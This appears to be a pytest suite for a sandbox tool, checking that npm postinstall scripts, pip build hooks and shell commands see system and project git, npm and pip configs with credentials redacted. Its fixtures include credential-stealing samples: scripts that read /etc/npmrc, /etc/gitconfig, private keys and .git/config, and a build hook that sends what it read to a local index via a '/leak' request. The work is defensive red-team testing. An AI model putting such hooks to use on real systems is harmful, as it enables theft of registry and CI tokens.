"""The host's system-wide npm, pip and git configs, its TLS private keys and the project's git
config, as package code sees them: a machine set up for a private registry keeps the token in /etc/npmrc, the index password in
/etc/pip.conf's URL, a git token in /etc/gitconfig. Package code (a plain `sbox run`, npm's
scripts phase) reads those files without the credentials and with every other setting; npm's
download phase, which talks to the registry itself, gets the token and uses it. /etc/ssl/private
is not in any sandbox. The project's .git/config, where `actions/checkout` leaves the CI job's
token, is read without it too.

The canaries are planted in a private mount namespace (a copy of /etc bound over /etc for the
test's processes alone), so the machine's own files are never touched; as root, since only root
can make one here. Docker's daemon binds host paths in its own namespace: there the test plants
only the files sbox itself hands the container (the redacted ones).
"""
from __future__ import annotations

import json
import os
import secrets
import shutil
import subprocess
import urllib.parse
from pathlib import Path
from typing import Any

import pytest
from support import packages as pkg
from support.boundary import config
from support.registries import NpmRegistry

def namespaces(test: Any) -> Any:
    """The test plants its canaries in a private mount namespace: root only, with unshare."""
    test = pytest.mark.skipif(os.geteuid() != 0, reason="a private mount namespace over /etc needs root")(test)
    return pytest.mark.skipif(shutil.which("unshare") is None, reason="unshare (util-linux) is not installed")(test)

TOKEN = "SBOXETCSECRET" + secrets.token_hex(8)

# What the package code reads, and the settings that must survive the redaction
READ = ("/etc/npmrc", "/etc/pip.conf", "/etc/gitconfig", "/etc/xdg/pip/pip.conf", "/usr/local/etc/npmrc")
KEPT = ("fund=false", "timeout = 60", "https://pypi.invalid/simple", "https://plain.invalid/simple",
        "sslVerify = true", '[url "https://github.com/"]', "foreground-scripts=false", "global-style-setting=yes")


def _plant(tmp_path: Path, registry_port: int = 9, xdg: bool = True) -> tuple[Path, Path | None]:
    """A copy of /etc with the canaries, and a /usr/local/etc holding one (None: not on this machine)."""
    etc = tmp_path / "etc"
    subprocess.run(["cp", "-a", "/etc", str(etc)], check=True)
    (etc / "npmrc").write_text(f"fund=false\n//127.0.0.1:{registry_port}/:_authToken={TOKEN}\n"
                               f"//registry.invalid/:_password={TOKEN}\nforeground-scripts=false\n")
    (etc / "pip.conf").write_text(f"[global]\nindex-url = https://user:{TOKEN}@pypi.invalid/simple\n"
                                  f"extra-index-url =\n    https://u:{TOKEN}@x.invalid/simple\n"
                                  "    https://plain.invalid/simple\ntimeout = 60\n")
    (etc / "gitconfig").write_text(f"[http]\n\textraHeader = Authorization: Bearer {TOKEN}\n\tsslVerify = true\n"
                                   f'[url "https://x-access-token:{TOKEN}@github.com/"]\n'
                                   "\tinsteadOf = https://github.com/\n"
                                   f'[credential]\n\thelper = "!f() {{ echo password={TOKEN}; }}; f"\n')
    if xdg:
        (etc / "xdg" / "pip").mkdir(parents=True, exist_ok=True)
        (etc / "xdg" / "pip" / "pip.conf").write_text(f"[global]\nextra-index-url = https://u:{TOKEN}@y.invalid/\n")
    (etc / "ssl" / "private").mkdir(parents=True, exist_ok=True)
    (etc / "ssl" / "private" / "host.key").write_text(f"-----BEGIN PRIVATE KEY-----\n{TOKEN}\n")
    local = None
    if os.path.isdir("/usr/local/etc"):
        local = tmp_path / "usr-local-etc"
        subprocess.run(["cp", "-a", "/usr/local/etc", str(local)], check=True)
        (local / "npmrc").write_text(f"global-style-setting=yes\n_authToken={TOKEN}\n")
    return etc, local


def _in_namespace(etc: Path, local: Path | None, argv: list[str], cwd: Path,
                  env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """`argv` with the planted /etc (and /usr/local/etc) in a mount namespace of its own."""
    script = ('mount --bind "$1" /etc || exit 99; if [ -n "$2" ]; then mount --bind "$2" /usr/local/etc || exit 99; '
              'fi; shift 2; exec "$@"')
    result = subprocess.run(["unshare", "-m", "--propagation", "private", "sh", "-c", script, "sh", str(etc),
                             str(local or ""), *argv], cwd=cwd, env=env or dict(os.environ),
                            capture_output=True, text=True, timeout=300)
    assert result.returncode != 99, result.stderr
    return result


@namespaces
def test_package_code_reads_system_configs_without_their_credentials(tmp_path: Path, backend: str,
                                                                     sbox_bin: str) -> None:
    root = tmp_path / "proj"
    config(root, backend)
    # Docker's daemon binds /etc/xdg/pip and /usr/local from its own namespace: none planted there
    etc, local = _plant(tmp_path, xdg=backend == "bwrap")
    local = local if backend == "bwrap" else None
    paths = [p for p in READ if p.startswith("/etc/") or local is not None]
    if backend != "bwrap":
        paths.remove("/etc/xdg/pip/pip.conf")
    reader = f"for f in {' '.join(paths)}; do cat $f; done; ls /etc/ssl/private; cat /etc/ssl/private/*; true"
    control = _in_namespace(etc, local, ["sh", "-c", reader], root)
    assert control.stdout.count(TOKEN) >= 7, control.stdout + control.stderr  # the live control: there to steal

    result = _in_namespace(etc, local, [sbox_bin, "run", "--", "sh", "-c", reader], root)
    out = result.stdout + result.stderr
    assert result.returncode == 0, out
    assert TOKEN not in out, out
    for setting in KEPT:
        if "global-style" in setting and local is None:
            continue
        assert setting in result.stdout, f"{setting!r} lost:\n{out}"


@namespaces
@pytest.mark.skipif(shutil.which("npm") is None, reason="npm is not installed")
def test_npm_scripts_read_the_global_npmrc_without_the_token_the_download_used(tmp_path: Path, backend: str,
                                                                                 sbox_bin: str) -> None:
    """The registry wants the token of /etc/npmrc (bwrap: the download phase there gets the real
    file; docker's daemon would bind the host's, where no token is planted, so it asks none). The
    install script dumps what it can read of the configs into node_modules."""
    root = tmp_path / "proj"
    config(root, backend)
    dump = ("const fs = require('fs'); const out = {};\n"
            f"for (const f of {json.dumps(list(READ))}) {{ try {{ out[f] = fs.readFileSync(f, 'utf8') }} catch (e) {{}} }}\n"
            "fs.writeFileSync(process.env.INIT_CWD + '/node_modules/dump.json', JSON.stringify(out));\n")
    tgz = pkg.npm_package("sbox-etc-dump", "1.0.0", {"dump.js": dump}, scripts={"postinstall": "node dump.js"})
    with NpmRegistry([tgz]) as registry:
        registry.token = TOKEN if backend == "bwrap" else None
        etc, local = _plant(tmp_path, registry.port)
        (root / "package.json").write_text(json.dumps({"name": "app", "version": "0.0.0", "private": True,
                                                       "dependencies": {"sbox-etc-dump": "1.0.0"}}))
        env = {k: v for k, v in os.environ.items() if not k.lower().startswith("npm_config_")}
        # npm's global config is $PREFIX/etc/npmrc (/usr/etc/npmrc for an npm in /usr), /etc/npmrc
        # for Debian's own npm: named here, so it is /etc/npmrc whichever npm this machine has
        env.update(npm_config_registry=registry.local_url + "/", npm_config_audit="false",
                   npm_config_update_notifier="false", npm_config_globalconfig="/etc/npmrc")
        result = _in_namespace(etc, local if backend == "bwrap" else None, [sbox_bin, "run", "--", "npm", "install"],
                               root, env)
        out = result.stdout + result.stderr
        assert result.returncode == 0, out[-3000:]
        assert "/sbox-etc-dump" in registry.requests and not registry.refused, registry.refused
    seen = json.loads((root / "node_modules" / "dump.json").read_text())
    assert "fund=false" in seen["/etc/npmrc"], seen  # the script read the file ...
    assert "foreground-scripts=false" in seen["/etc/npmrc"], seen
    assert TOKEN not in json.dumps(seen), seen  # ... without the token the download used
    assert TOKEN not in out


def _checkout(root: Path) -> None:
    """A project as `actions/checkout` leaves it in CI: the job's token in .git/config, a clone
    URL with a token in a submodule's (`modules/libs/core`: a name with a slash)."""
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    git = ["git", "-C", str(root), "config"]
    subprocess.run([*git, "http.https://github.com/.extraheader", f"AUTHORIZATION: basic {TOKEN}"], check=True)
    subprocess.run([*git, "remote.origin.url", "https://github.com/example/app"], check=True)
    module = root / ".git" / "modules" / "libs" / "core"
    module.mkdir(parents=True)
    (module / "HEAD").write_text("ref: refs/heads/main\n")
    (module / "config").write_text(f'[remote "origin"]\n\turl = https://x-access-token:{TOKEN}@github.com/example/core\n')


def test_package_code_reads_the_project_s_git_config_without_the_ci_token(tmp_path: Path, backend: str,
                                                                          sbox_bin: str) -> None:
    """An install script reads .git/config (the CI job's token) in a network-off run and in npm's
    scripts phase; git itself still works there (the remote's URL is what it was)."""
    root = tmp_path / "proj"
    config(root, backend)
    _checkout(root)
    reader = "cat .git/config .git/modules/libs/core/config; git config --get remote.origin.url"
    control = subprocess.run(["sh", "-c", reader], cwd=root, capture_output=True, text=True)
    assert control.stdout.count(TOKEN) == 2, control  # the live control: there to steal

    result = subprocess.run([sbox_bin, "run", "--", "sh", "-c", reader], cwd=root, capture_output=True, text=True,
                            timeout=300)
    out = result.stdout + result.stderr
    assert result.returncode == 0, out
    assert TOKEN not in out, out
    assert "https://github.com/example/app" in result.stdout  # git reads the config
    assert "url = https://github.com/example/core" in result.stdout, out

    if shutil.which("npm") is None:
        return
    dump = ("const fs = require('fs'); const out = {};\n"
            "for (const f of ['.git/config', '.git/modules/libs/core/config']) {\n"
            "  try { out[f] = fs.readFileSync(process.env.INIT_CWD + '/' + f, 'utf8') } catch (e) { out[f] = String(e) } }\n"
            "fs.writeFileSync(process.env.INIT_CWD + '/node_modules/dump.json', JSON.stringify(out));\n")
    tgz = pkg.npm_package("sbox-git-dump", "1.0.0", {"dump.js": dump}, scripts={"postinstall": "node dump.js"})
    with NpmRegistry([tgz]) as registry:
        (root / "package.json").write_text(json.dumps({"name": "app", "version": "0.0.0", "private": True,
                                                       "dependencies": {"sbox-git-dump": "1.0.0"}}))
        env = {k: v for k, v in os.environ.items() if not k.lower().startswith("npm_config_")}
        env.update(npm_config_registry=registry.local_url + "/", npm_config_audit="false",
                   npm_config_update_notifier="false")
        result = subprocess.run([sbox_bin, "run", "--", "npm", "install"], cwd=root, env=env, capture_output=True,
                                text=True, timeout=300)
        assert result.returncode == 0, (result.stdout + result.stderr)[-3000:]
    seen = json.loads((root / "node_modules" / "dump.json").read_text())
    assert "[remote \"origin\"]" in seen[".git/config"] and "extraheader" not in seen[".git/config"], seen
    assert TOKEN not in json.dumps(seen), seen


LEAK_SETUP = r"""
import json, os, urllib.parse, urllib.request
seen = {}
for f in ("/etc/gitconfig", "/etc/npmrc"):
    try:
        seen[f] = open(f).read()
    except OSError as e:
        seen[f] = str(e)
try:  # the download phase has the index: the sdist's build hook sends what it read there
    urllib.request.urlopen(INDEX + "/leak?d=" + urllib.parse.quote(json.dumps(seen)), timeout=10).read()
except Exception:
    pass
"""


@namespaces
def test_pip_s_download_phase_runs_build_hooks_without_the_machine_s_git_and_npm_credentials(
        tmp_path: Path, backend: str, sbox_bin: str) -> None:
    """pip's download phase runs an sdist's build hooks, with the network to the index: it gets
    the index's credentials (pip.conf), never git's or npm's, which it has no use for (red team)."""
    from support.registries import PypiIndex

    root = tmp_path / "proj"
    config(root, backend)
    venv = root / ".venv"
    subprocess.run([shutil.which("python3") or "python3", "-m", "venv", str(venv)], check=True, timeout=300)
    with PypiIndex() as index:
        name, data = pkg.sdist("sbox-leak", "1.0", f"INDEX = {index.local_url!r}\n" + LEAK_SETUP, {"sbox_leak.py": ""},
                               backend="intree")
        index.add(name, data)
        etc, _ = _plant(tmp_path, xdg=False)
        env = {k: v for k, v in os.environ.items() if not k.startswith(("PIP_", "npm_config_"))}
        env.update(PIP_INDEX_URL=index.index_url, PIP_CONFIG_FILE=os.devnull, PIP_RETRIES="0", VIRTUAL_ENV=str(venv),
                   PATH=f"{venv / 'bin'}{os.pathsep}{os.environ['PATH']}")
        result = _in_namespace(etc, None, [sbox_bin, "run", "--", "pip", "install", "sbox-leak"], root, env)
        out = result.stdout + result.stderr
        assert result.returncode == 0, out[-3000:]
        leaks = [r for r in index.requests if r.startswith("/leak")]
    assert leaks, index.requests  # the hook ran with the network, and read the files ...
    assert "sslVerify" in urllib.parse.unquote(leaks[0]), leaks
    assert all(TOKEN not in urllib.parse.unquote(r) for r in index.requests), leaks  # ... without the tokens


def test_worktree_and_linked_git_configs_lose_the_token_too(tmp_path: Path, backend: str, sbox_bin: str) -> None:
    """Red team 2: a worktree's own config (`git config --worktree`, worktrees/NAME/config.worktree)
    of a worktree outside the project, and a .git/config that the host made a link to a file in
    the project, were shown as they are."""
    root = tmp_path / "proj"
    config(root, backend)
    _checkout(root)
    git = ["git", "-C", str(root)]
    subprocess.run([*git, "-c", "user.email=t@e", "-c", "user.name=t", "commit", "-q", "--allow-empty", "-m", "x"],
                   check=True)
    subprocess.run([*git, "config", "extensions.worktreeConfig", "true"], check=True)
    outside = tmp_path / "wt-out"
    subprocess.run([*git, "worktree", "add", "-q", str(outside)], check=True)
    subprocess.run(["git", "-C", str(outside), "config", "--worktree", "http.https://github.com/.extraheader",
                    f"AUTHORIZATION: basic {TOKEN}"], check=True)
    reader = "cat .git/worktrees/*/config.worktree; cat .git/config"
    control = subprocess.run(["sh", "-c", reader], cwd=root, capture_output=True, text=True)
    assert control.stdout.count(TOKEN) == 2, control  # the live control
    result = subprocess.run([sbox_bin, "run", "--", "sh", "-c", reader], cwd=root, capture_output=True, text=True,
                            timeout=300)
    assert result.returncode == 0 and "[http" in result.stdout, result.stdout + result.stderr
    assert TOKEN not in result.stdout + result.stderr

    kept = root / "keep"  # the host moves the config into the project and links to it
    kept.mkdir()
    os.rename(root / ".git" / "config", kept / "real.cfg")
    os.symlink("../keep/real.cfg", root / ".git" / "config")
    result = subprocess.run([sbox_bin, "run", "--", "sh", "-c", "git config --get-regexp 'http.*'; cat .git/config"],
                            cwd=root, capture_output=True, text=True, timeout=300)
    assert "[remote" in result.stdout, result.stdout + result.stderr  # git and cat read it ...
    assert TOKEN not in result.stdout + result.stderr  # ... without the token


def test_a_project_with_too_many_submodules_hides_their_git_directories(tmp_path: Path, backend: str,
                                                                       sbox_bin: str) -> None:
    """Red team 2: 4,200 submodules' configs were shown as they are past the walk's cap (docker), or
    the step could not start (bwrap). Past MAX_REDACTED, sbox hides the submodules' git
    directories, says so (`sbox plan`), and still redacts the project's own config."""
    from sbox_shim import configs

    root = tmp_path / "proj"
    config(root, backend)
    _checkout(root)
    for n in range(configs.MAX_REDACTED + 5):
        module = root / ".git" / "modules" / f"m{n}"
        module.mkdir(parents=True, exist_ok=True)
        (module / "HEAD").write_text("ref: refs/heads/main\n")
        (module / "config").write_text(f'[remote "origin"]\n\turl = https://u:{TOKEN}@github.com/example/m{n}\n')
    reader = "cat .git/config; cat .git/modules/*/config .git/modules/libs/core/config 2>/dev/null; true"
    result = subprocess.run([sbox_bin, "run", "--", "sh", "-c", reader], cwd=root, capture_output=True, text=True,
                            timeout=300)
    out = result.stdout + result.stderr
    assert result.returncode == 0, out
    assert "[remote \"origin\"]" in result.stdout and TOKEN not in out, out[-2000:]
    plan = subprocess.run([sbox_bin, "plan", "--", "sh"], cwd=root, capture_output=True, text=True, timeout=300)
    assert "submodules' git directories are hidden" in plan.stdout + plan.stderr, plan.stdout + plan.stderr


def test_a_git_config_changed_after_a_kept_run_is_shown_as_it_is_now(tmp_path: Path, backend: str,
                                                                    sbox_bin: str) -> None:
    """The plan cache keeps the redacted config with the record: a repeated command shows what the
    file holds now (a setting added since), still without the token added with it."""
    root = tmp_path / "proj"
    config(root, backend)
    _checkout(root)
    argv = [sbox_bin, "run", "--", "git", "config", "--list", "--local"]
    for _ in range(2):  # recorded, then run from the record
        first = subprocess.run(argv, cwd=root, capture_output=True, text=True, timeout=300)
        assert first.returncode == 0 and "remote.origin.url" in first.stdout, first.stdout + first.stderr
    subprocess.run(["git", "-C", str(root), "config", "sbox.added", "yes"], check=True)
    subprocess.run(["git", "-C", str(root), "config", "remote.origin.url", f"https://u:{TOKEN}@github.com/e/app"],
                   check=True)
    later = subprocess.run(argv, cwd=root, capture_output=True, text=True, timeout=300)
    assert "sbox.added=yes" in later.stdout and "remote.origin.url=https://github.com/e/app" in later.stdout, later
    assert TOKEN not in later.stdout + later.stderr + first.stdout
